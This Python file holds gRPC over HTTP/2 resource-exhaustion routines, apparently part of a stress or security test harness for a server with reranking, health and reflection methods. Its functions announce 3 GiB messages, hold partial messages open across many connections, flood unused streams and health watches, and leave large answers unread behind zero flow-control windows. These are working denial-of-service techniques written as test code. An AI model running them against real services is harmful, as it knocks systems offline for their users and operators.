"""Attacks with gRPC streams that stay open: unfinished messages, watches, and answers that the client does not read."""

import time

import http2
from attacker import HEALTH_CHECK, HEALTH_WATCH, MIB, REFLECTION, RERANK, RERANK_STREAM
from http2 import DATA, FRAME_BYTES, frame


def send_message(attacker, connection, stream, announced_bytes, num_bytes, fill=b"\x1a"):
    """Sends a part of a message as fast as the server's flow-control windows allow. Returns the number of bytes
    sent."""
    prefix, sent = http2.grpc_prefix(announced_bytes), 0
    chunk = fill * FRAME_BYTES
    while sent < num_bytes and attacker.running() and stream not in connection.ended:
        if connection.window(stream) < FRAME_BYTES:
            if not connection.pump(0.05):
                break
            continue
        payload = (prefix + chunk)[:FRAME_BYTES] if sent == 0 else chunk
        connection.send_data(stream, payload)
        sent += len(payload)
        if sent % (16 * FRAME_BYTES) == 0 and not connection.pump():
            break
    return sent


def announced_message(attacker, path=RERANK):
    """Announces messages of 3 GiB, which no limit of the server allows."""
    sent, connections = 0, 0
    while attacker.running():
        connection = attacker.connect()
        if connection is None:
            continue
        connections += 1
        try:
            connection.send_headers(1, http2.grpc_header_block(path))
            sent += send_message(attacker, connection, 1, 3 << 30, 1536 * MIB)
        except OSError:
            pass
        connection.close()
        time.sleep(0.01)
    return {"sent_bytes": sent, "connections": connections}


def announced_message_to_health(attacker):
    """Announces messages of 3 GiB to the one method that needs no token."""
    return announced_message(attacker, HEALTH_CHECK)


def unfinished_messages(attacker, count=60, num_bytes=60 * MIB, authorized=False):
    """Opens `count` connections. Sends a message of an allowed size on each, except for the last bytes."""
    block = http2.grpc_header_block(RERANK, attacker.authorization() if authorized else ())
    open_connections, sent = {}, 0
    while attacker.running():
        if len(open_connections) < count:
            connection = attacker.connect()
            if connection is not None:
                try:
                    connection.send_headers(1, block)
                    open_connections[connection] = 0
                except OSError:
                    connection.close()
        for connection in list(open_connections):
            try:
                if not connection.pump() or 1 in connection.ended:
                    raise OSError("closed")
                while open_connections[connection] < num_bytes and connection.window(1) >= FRAME_BYTES:
                    first = open_connections[connection] == 0
                    payload = (http2.grpc_prefix(64 * MIB) if first else b"") + b"\x1a" * FRAME_BYTES
                    connection.send_data(1, payload[:FRAME_BYTES])
                    open_connections[connection] += FRAME_BYTES
                    sent += FRAME_BYTES
            except OSError:
                connection.close()
                del open_connections[connection]
        if all(bytes_sent >= num_bytes for bytes_sent in open_connections.values()):
            time.sleep(0.01)
    return {"sent_bytes": sent, "open_at_the_end": len(open_connections)}


def unfinished_messages_with_token(attacker):
    """Sends unfinished messages with a token. They may fill the memory that the server has for requests, but no more.
    Opens fewer connections than the server has descriptors, because the server never closes connections with a valid
    token to free one."""
    return unfinished_messages(attacker, count=20, authorized=True)


def open_streams(attacker, path, extra=(), count=4096):
    """Opens streams that are never used."""
    opened, connections = 0, 0
    while attacker.running():
        connection = attacker.connect()
        if connection is None:
            continue
        connections += 1
        try:
            for i in range(count):
                connection.send_headers(1 + 2 * i, http2.grpc_header_block(path, extra))
                opened += 1
                if i % 64 == 0 and not (attacker.running() and connection.pump()):
                    break
            while attacker.running() and connection.pump(0.1):
                pass
        except OSError:
            pass
        connection.close()
        time.sleep(0.01)
    return {"streams": opened, "connections": connections}


def reflection_streams(attacker):
    """Opens 4,096 streams of reflection, with the token that reflection needs."""
    return open_streams(attacker, REFLECTION, attacker.authorization())


def reflection_streams_without_token(attacker):
    """Opens 4,096 streams of reflection."""
    return open_streams(attacker, REFLECTION)


def health_watches(attacker):
    """Opens thousands of watches of the health service, which needs no token."""
    block = http2.grpc_header_block(HEALTH_WATCH)
    opened = 0
    while attacker.running():
        connection = attacker.connect()
        if connection is None:
            continue
        try:
            for i in range(20_000):
                connection.send_headers(1 + 2 * i, block)
                connection.send(frame(DATA, http2.END_STREAM, 1 + 2 * i, http2.grpc_prefix(0)))
                opened += 1
                if i % 64 == 0 and not (attacker.running() and connection.pump()):
                    break
            while attacker.running() and connection.pump(0.1):
                pass
        except OSError:
            pass
        connection.close()
        time.sleep(0.01)
    return {"streams": opened}


def unread_answers(attacker):
    """With a token, sends requests with large answers over streams, and reads none of the answers."""
    with open(attacker.options["large_request"], "rb") as file:
        message = file.read()
    block = http2.grpc_header_block(RERANK_STREAM, attacker.authorization())
    body = http2.grpc_prefix(len(message)) + message
    sent, requests = 0, 0
    while attacker.running():
        # The server may send nothing on a stream whose window is 0. The window of the connection is never raised
        # either.
        connection = attacker.connect(own_settings={http2.INITIAL_WINDOW_SIZE: 0})
        if connection is None:
            continue
        try:
            streams = [1 + 2 * i for i in range(16)]
            for stream in streams:
                connection.send_headers(stream, block)
            while attacker.running() and connection.pump(0.01):
                for stream in streams:
                    if stream in connection.ended or connection.window(stream) < len(body):
                        continue
                    for i in range(0, len(body), FRAME_BYTES):
                        connection.send_data(stream, body[i : i + FRAME_BYTES])
                    sent += len(body)
                    requests += 1
        except OSError:
            pass
        connection.close()
    return {"sent_bytes": sent, "requests": requests}
